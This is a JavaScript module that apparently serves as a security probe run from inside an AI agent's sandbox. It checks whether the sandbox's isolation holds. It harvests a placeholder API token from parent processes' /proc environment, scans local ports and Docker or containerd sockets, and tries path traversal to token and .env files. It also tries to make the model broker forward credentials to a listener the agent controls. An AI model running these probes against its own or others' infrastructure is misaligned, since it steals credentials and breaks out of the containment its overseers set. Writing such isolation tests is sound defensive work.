// Everything that listens in the sandbox or beyond it: the server without a token, the broker without a placeholder.
import { readFileSync, lstatSync } from 'node:fs'
import { createServer, connect } from 'node:net'
import { attempt, count, find, given, me, search } from './report.mjs'

const WAIT_MS = 5_000
const LEASE = '{"timeoutMs":600000}'
const ASK = '{"model":"m","max_tokens":1,"messages":[{"role":"user","content":"who?"}]}'

/** `/health` and the page tell nothing; all else needs a token or a placeholder. */
const REQUESTS = [
  ['GET', '/sessions'],
  ['GET', '/config'],
  ['GET', '/files'],
  ['GET', '/files/content?path=.env'],
  ['GET', '/files/content?path=../../../run/claude-agent/token'],
  ['GET', '/health/../sessions'],
  ['GET', '//sessions'],
  ['POST', '/lease', LEASE],
  ['POST', '/sessions', '{}'],
  ['POST', '/v1/messages', ASK],
  ['POST', '/v1/messages/count_tokens', ASK],
  ['GET', '/v1/models'],
]
const SOCKETS = ['/ws', '/model', '/files/watch', '/sessions/default/ws', '/']

export async function attackNetwork() {
  const { token, broker } = findPlaceholder()
  const guesses = [[], ['authorization: Bearer guess'], ['x-api-key: placeholder-guess'], ['x-api-key: ']]
  const own = token === undefined ? [] : [[`authorization: Bearer ${token}`]]
  const tells = findListeners().flatMap((at) => {
    count('ports')
    const isBroker = broker?.port === at.port && broker.host === at.host
    // The placeholder opens the broker, and nothing else.
    const headers = [...guesses, ...(isBroker ? [] : own)]
    return [
      ...headers.flatMap((one) => REQUESTS.map(([method, path, body]) => ask(at, method, path, one, body))),
      ...SOCKETS.map((path) => upgrade(at, path)),
    ]
  })
  await Promise.all(tells)
  if (token !== undefined && broker !== undefined) await misdirect(broker, token)
  await Promise.all([...given.closed.map(reach), ...findSockets().map(reachSocket)])
}

/** What the agent itself was given: where its model is, and what it shows there. */
function findPlaceholder() {
  for (const id of listAncestors()) {
    const environment = attempt(() => readFileSync(`/proc/${id}/environ`, 'latin1')) ?? ''
    const token = /=(placeholder-[\w-]+)/.exec(environment)?.[1]
    const [, host, port] = /ANTHROPIC_BASE_URL=http:\/\/([\d.]+):(\d+)/.exec(environment) ?? []
    if (token === undefined || port === undefined) continue
    count('placeholders')
    return { token, broker: { host, port: Number(port) } }
  }
  return {}
}

/** Those that started this process: the shell, and the CLI, which holds the placeholder. */
function listAncestors() {
  const ids = []
  for (let id = process.ppid; id > 1 && ids.length < 20;) {
    ids.push(id)
    const status = attempt(() => readFileSync(`/proc/${id}/status`, 'latin1')) ?? ''
    id = Number(/^PPid:\s+(\d+)/m.exec(status)?.[1] ?? 0)
  }
  return ids
}

/** Ports that are listened on. Where the network is shared with others, only those of server and agent. */
function findListeners() {
  const users = new Set([me, 900])
  const found = ['tcp', 'tcp6'].flatMap((name) =>
    (attempt(() => readFileSync(`/proc/net/${name}`, 'latin1')) ?? '').split('\n').flatMap((line) => {
      const fields = line.trim().split(/\s+/)
      if (fields[3] !== '0A' || (given.isShared && !users.has(Number(fields[7])))) return []
      const [address, port] = fields[1].split(':')
      const bytes = Buffer.from(address.slice(-8), 'hex').reverse()
      const host = name === 'tcp6' || bytes.every((byte) => byte === 0) ? '127.0.0.1' : bytes.join('.')
      return [{ host, port: Number.parseInt(port, 16) }]
    }),
  )
  return [...new Map(found.map((at) => [`${at.host}:${at.port}`, at])).values()]
}

async function ask(at, method, path, headers, body = '') {
  count('requests')
  const lines = [`${method} ${path} HTTP/1.1`, 'host: localhost', 'connection: close', ...headers]
  if (body !== '') lines.push('content-type: application/json', `content-length: ${body.length}`)
  const answer = await speak(at, `${lines.join('\r\n')}\r\n\r\n${body}`)
  search(Buffer.from(answer, 'latin1'), `the answer to ${method} ${path}`)
  if (/^HTTP\/1.1 2/.test(answer))
    find(`${method} ${path} is answered, with ${headers[0]?.slice(0, 24) ?? 'no header'}`)
}

async function upgrade(at, path) {
  count('upgrades')
  const key = ['sec-websocket-version: 13', 'sec-websocket-key: dGhlIHNhbXBsZSBub25jZQ==']
  const lines = [
    `GET ${path} HTTP/1.1`,
    'host: localhost',
    'connection: Upgrade',
    'upgrade: websocket',
    ...key,
  ]
  const text = Buffer.from('{"type":"auth","token":"guess"}')
  // A text frame, masked with zeros.
  const frame = Buffer.concat([Buffer.from([0x81, 0x80 | text.length, 0, 0, 0, 0]), text])
  const answer = await speak(at, `${lines.join('\r\n')}\r\n\r\n`, (heard) => {
    if (heard.startsWith('HTTP/1.1 101')) return frame
    return undefined
  })
  search(Buffer.from(answer, 'latin1'), `the answer to an upgrade of ${path}`)
  if (/^HTTP\/1.1 101/.test(answer) && !/"type":"error"/.test(answer)) find(`${path} lets a stranger in`)
}

/** Tries to have the broker carry the key to a listener of the agent's own. */
async function misdirect(broker, token) {
  const listener = createServer((socket) => {
    socket.on('error', () => {})
    socket.once('data', (bytes) => {
      find('the broker speaks to whom the agent names')
      search(bytes, 'what the broker sends to whom the agent names')
      socket.end('HTTP/1.1 200 OK\r\ncontent-length: 2\r\n\r\n{}')
    })
  })
  await new Promise((resolve) => listener.listen(0, '127.0.0.1', resolve))
  const mine = `127.0.0.1:${listener.address().port}`
  const targets = [
    `http://${mine}/v1/messages`,
    `//${mine}/v1/messages`,
    `/v1/models/@${mine}`,
    '/v1/messages',
  ]
  for (const target of targets) {
    for (const extra of [
      '',
      `x-forwarded-host: ${mine}`,
      `forwarded: host=${mine}`,
      `x-anthropic-base-url: http://${mine}`,
    ]) {
      count('misdirections')
      const lines = [
        `POST ${target} HTTP/1.1`,
        `host: ${mine}`,
        `authorization: Bearer ${token}`,
        `x-api-key: ${token}`,
      ]
      lines.push('connection: close', 'content-type: application/json', `content-length: ${ASK.length}`)
      if (extra !== '') lines.push(extra)
      const answer = await speak(broker, `${lines.join('\r\n')}\r\n\r\n${ASK}`)
      if (/^HTTP\/1.1 2/.test(answer)) count('answers of the broker')
      search(Buffer.from(answer, 'latin1'), 'an answer of the broker')
    }
  }
  await new Promise((resolve) => listener.close(resolve))
}

/** An address that the sandbox should not get to. */
async function reach({ host, port, what }) {
  count('addresses')
  const at = { host: host === 'gateway' ? findGateway() : host, port }
  if (at.host !== undefined && (await opens(at))) find(`reaches ${what}`)
}

function findGateway() {
  const routes = attempt(() => readFileSync('/proc/net/route', 'latin1')) ?? ''
  const gateway = /^\S+\s+00000000\s+([0-9A-F]{8})/m.exec(routes)?.[1]
  return gateway === undefined ? undefined : Buffer.from(gateway, 'hex').reverse().join('.')
}

/** Sockets with a path that are not the agent's own. */
function findSockets() {
  const lines = (attempt(() => readFileSync('/proc/net/unix', 'latin1')) ?? '').split('\n').slice(1)
  const listed = given.isShared ? [] : lines.map((line) => line.trim().split(/\s+/)[7] ?? '')
  const known = ['/run/docker.sock', '/var/run/docker.sock', '/run/containerd/containerd.sock']
  const all = new Set([...listed, ...known, '/var/lib/claude-agent-server/files.sock'])
  return [...all].filter((path) => path !== '' && attempt(() => lstatSync(path))?.uid !== me)
}

async function reachSocket(path) {
  count('sockets')
  if (await opens({ path: path.replace(/^@/, '\0') })) find(`connects to ${path}`)
}

async function opens(at) {
  return await new Promise((resolve) => {
    const socket = connect(at)
    socket.setTimeout(2_000, () => socket.destroy())
    socket.once('connect', () => resolve(true) ?? socket.destroy())
    socket.on('error', () => {})
    socket.once('close', () => resolve(false))
  })
}

/** Sends bytes, and more once an answer begins; gives all that comes back. */
async function speak(at, bytes, more) {
  return await new Promise((resolve) => {
    let heard = ''
    let isMore = false
    const socket = connect(at, () => socket.write(bytes))
    socket.setEncoding('latin1').setTimeout(WAIT_MS, () => socket.destroy())
    socket.on('error', () => {})
    socket.on('data', (text) => {
      heard += text
      const next = isMore ? undefined : more?.(heard)
      if (next === undefined) return
      isMore = true
      socket.write(next)
      setTimeout(() => socket.end(), 1_000)
    })
    socket.once('close', () => resolve(heard))
  })
}
